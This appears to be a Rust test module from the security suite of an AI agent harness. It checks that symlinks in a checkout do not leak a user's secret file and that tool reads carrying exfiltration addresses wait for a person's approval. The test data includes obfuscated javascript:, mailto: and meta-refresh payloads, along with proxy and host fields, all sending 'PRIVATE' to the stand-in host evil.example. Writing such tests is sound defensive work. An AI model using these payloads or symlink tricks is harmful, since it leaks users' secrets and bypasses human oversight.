//! What a checkout places under names that a person types, and words that only a browser reads as an address (findings 3 and 8, by other doors).

use std::fs;
use std::os::unix::fs::symlink;

use anyhow::ensure;
use serde_json::{Value, json};

use super::python::{call, job, server, starts, world};
use crate::scenario::world::Stage;
use crate::scenario::{Mark, Scenario, Verdict};

pub(super) const ATTACKS: &[Scenario] = &[
    Scenario {
        number: "3p",
        waits: false,
        name: "files of a checkout are links to a file of the user, whose first word an error repeats",
        must: "no word of it is printed",
        mark: Mark::Mended,
        play: words_behind_links,
    },
    Scenario {
        number: "3q",
        waits: false,
        name: "a folder of a checkout is a link to a folder of the user, and an export is named into it",
        must: "nothing is written there (exit 2)",
        mark: Mark::Mended,
        play: export_through_a_link,
    },
    Scenario {
        number: "8v",
        waits: false,
        name: "a read of another server is given a page with schemes that only a browser puts together",
        must: "the read is not sent before a person is asked",
        mark: Mark::Mended,
        play: |stage| {
            leaves_in(
                stage,
                "broken schemes",
                &[
                    json!({"text": "<a href=\"java\tscript:fetch('PRIVATE')\">"}),
                    json!({"text": "<a href=\"mail\nto:m@evil.example?body=PRIVATE\">"}),
                    json!({"text": "<a href=\"javascript\t:fetch('PRIVATE')\">"}),
                    json!({"text": "<meta http-equiv=refresh content=\"0;url=http:/\t/evil.example/PRIVATE\">"}),
                    json!({"text": "<a href=java&Tab;script:PRIVATE>"}),
                ],
            )
        },
    },
    Scenario {
        number: "8w",
        waits: false,
        name: "a read of another server is given a host under a name for a place",
        must: "the read is not sent before a person is asked",
        mark: Mark::Mended,
        play: |stage| {
            leaves_in(
                stage,
                "names for a place",
                &[
                    json!({"proxy": "evil.example:3128"}),
                    json!({"server": "PRIVATE.evil.example"}),
                    json!({"goto": "evil.example/PRIVATE"}),
                    json!({"source": "evil.example/PRIVATE"}),
                ],
            )
        },
    },
];

/// What a file of the user says, in the forms in which keys and passwords lie on a machine.
const SECRETS: [&str; 4] =
    ["hushhush-0123456789\n", "hushhush:x:y\n", "\"hushhush\"\n", "{\"objective\": \"x\", \"hushhush\": 1}\n"];

fn words_behind_links(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = world(stage)?;
    server(&world, "servers.json", &[])?;
    let secret = world.path("home/token");
    let commands: [(&str, &[&str]); 6] = [
        ("linked.json", &["job", "linked.json"]),
        ("linked.json", &["job", "--check", "linked.json"]),
        ("linked.json", &["doctor", "--job", "linked.json"]),
        (".mcp.json", &["tools", "list"]),
        ("mcp.lock", &["tools", "list", "--mcp-config", "servers.json"]),
        ("ua.toml", &["config", "show"]),
    ];
    let mut told = Vec::new();
    for text in SECRETS {
        fs::write(&secret, text)?;
        for (name, command) in commands {
            let link = world.path("work").join(name);
            symlink(&secret, &link)?;
            let end = world.run(command)?;
            fs::remove_file(&link)?;
            if end.out.contains("hushhush") || end.err.contains("hushhush") {
                told.push(name);
            }
        }
    }
    let held = if told.is_empty() { "held".to_owned() } else { format!("FELL by {}", told.join(", ")) };
    Ok(Verdict::of(told.is_empty(), format!("words of a file of the user: {held}")))
}

fn export_through_a_link(stage: &Stage) -> anyhow::Result<Verdict> {
    let world = world(stage)?;
    let folder = world.path("home/private");
    fs::create_dir(&folder)?;
    job(&world, &json!({}), &[])?;
    world.run(&["job", "job.json", "--run-id", "r"])?.must(0)?;
    symlink("../home/private", world.path("work/copy"))?;
    let end = world.run(&["runs", "export", "r", "--out", "copy"])?;
    let there = fs::read_dir(&folder)?.count();
    let held = if there == 0 { "held" } else { "FELL" };
    Ok(Verdict::of(
        there == 0 && end.code == Some(2),
        format!("where an export is named: {held}, {there} file(s) in the user's folder, {}", end.told()),
    ))
}

/// A page of others, private data, and then a read with each of these arguments, in a run of its own. Which ones were sent without a question.
fn leaves_in(stage: &Stage, what: &str, reads: &[Value]) -> anyhow::Result<Verdict> {
    let world = world(stage)?;
    server(&world, "servers.json", &[])?;
    let first = world.path("out-first").display().to_string();
    let mut sent = Vec::new();
    for (number, read) in reads.iter().enumerate() {
        let (seen, run) = (world.path(&format!("out-{number}")), format!("r{number}"));
        let mut read = read.clone();
        read["seen"] = json!(seen.display().to_string());
        let turns = [
            call("mcp__shop__get_page", &json!({"seen": first})),
            starts(&["echo", "PRIVATE"]),
            call("mcp__shop__get_page", &read),
        ];
        let fields = json!({"artifacts": {"workspace_dir": run}, "tools": {"builtin": true, "run_command": true}});
        job(&world, &fields, &turns)?;
        let end = world.run(&["job", "job.json", "--run-id", &run, "--mcp-config", "servers.json"])?;
        ensure!(world.path("out-first").exists(), "the first page was not read: {}", end.err);
        if seen.exists() || end.code != Some(75) {
            sent.push(format!("{number} ({})", end.told()));
        }
        fs::remove_file(world.path("out-first"))?;
    }
    let held = if sent.is_empty() { "held".to_owned() } else { format!("FELL by {}", sent.join(", ")) };
    Ok(Verdict::of(sent.is_empty(), format!("{what}: {held}")))
}
